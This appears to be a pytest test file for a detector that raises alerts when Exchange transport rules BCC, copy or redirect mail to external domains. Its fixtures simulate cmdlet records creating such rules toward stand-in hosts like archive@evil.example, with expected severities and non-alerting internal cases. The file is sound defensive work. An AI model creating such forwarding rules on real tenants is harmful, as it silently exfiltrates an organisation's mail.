"""Transport (mail-flow) rules that copy or redirect mail outside the tenant."""

from __future__ import annotations

from typing import Any

import pytest
from records import TEST_TENANT, at, exchange_cmdlet, expected_alert, identity_enricher

from detectors.exchange_transport_rule_forwarding import ExchangeTransportRuleForwarding
from shared.detection.testing import run_detector
from shared.tenant_config import TenantConfig

TENANT = TenantConfig(tenant_id=TEST_TENANT, internal_domains=["contoso.com"])
ADMIN = "it.admin@contoso.com"
HOME = "198.51.100.10"


def run(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    got = run_detector(ExchangeTransportRuleForwarding, records, tenant=TENANT, enricher=identity_enricher())
    assert got.quarantined == []
    return [a.to_dict() for a in got.alerts]


def ctx(**over: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"every_message": False, "mode": None, "enabled": None, "risk": None}
    base.update(over)
    return base


CASES = [
    pytest.param(
        exchange_cmdlet("New-TransportRule", {"Name": "Compliance copy", "BlindCopyTo": "archive@evil.example"}, ADMIN),
        "critical",
        f"Transport rule 'Compliance copy' created by {ADMIN} sends mail to archive@evil.example for every message",
        "compliance copy|archive@evil.example",
        ctx(rule_name="Compliance copy", external={"blindcopyto": ["archive@evil.example"]}, every_message=True),
        id="bcc-every-message",
    ),
    pytest.param(
        exchange_cmdlet(
            "New-TransportRule",
            {
                "Name": "Finance",
                "SentToScope": "InOrganization",
                "SubjectContainsWords": "invoice",
                "RedirectMessageTo": "ap@finance-portal.example",
                "AddToRecipients": "cfo@contoso.com",
            },
            ADMIN,
            params_as_string=True,
        ),
        "high",
        f"Transport rule 'Finance' created by {ADMIN} sends mail to ap@finance-portal.example",
        "finance|ap@finance-portal.example",
        ctx(rule_name="Finance", external={"redirectmessageto": ["ap@finance-portal.example"]}),
        id="conditional-redirect-internal-addition-ignored",
    ),
    pytest.param(
        exchange_cmdlet(
            "Set-TransportRule", {"Identity": "Journal", "CopyTo": "x@evil.example", "Mode": "Audit"}, ADMIN
        ),
        "medium",
        f"Transport rule 'Journal' changed by {ADMIN} sends mail to x@evil.example (audit mode or disabled)",
        "journal|x@evil.example",
        ctx(rule_name="Journal", external={"copyto": ["x@evil.example"]}, mode="Audit"),
        id="audit-mode",
    ),
]


@pytest.mark.parametrize(("record", "severity", "summary", "dedup", "context"), CASES)
def test_external_transport_rules(
    record: dict[str, Any], severity: str, summary: str, dedup: str, context: dict[str, Any]
) -> None:
    assert run([record]) == [
        expected_alert(
            ExchangeTransportRuleForwarding,
            records=[record],
            severity=severity,
            summary=summary,
            dedup_key=dedup,
            user_key=ADMIN,
            ip=HOME,
            context=context,
        )
    ]


@pytest.mark.parametrize(
    "record",
    [
        pytest.param(
            exchange_cmdlet("New-TransportRule", {"Name": "Legal hold", "BlindCopyTo": "legal@contoso.com"}, ADMIN),
            id="internal-bcc",
        ),
        pytest.param(
            exchange_cmdlet(
                "New-TransportRule", {"Name": "Disclaimer", "ApplyHtmlDisclaimerText": "Confidential"}, ADMIN
            ),
            id="no-recipient-action",
        ),
        pytest.param(
            exchange_cmdlet(
                "New-TransportRule", {"Name": "x", "BlindCopyTo": "a@evil.example"}, ADMIN, result="False", when=at()
            ),
            id="failed",
        ),
    ],
)
def test_no_alert(record: dict[str, Any]) -> None:
    assert run([record]) == []
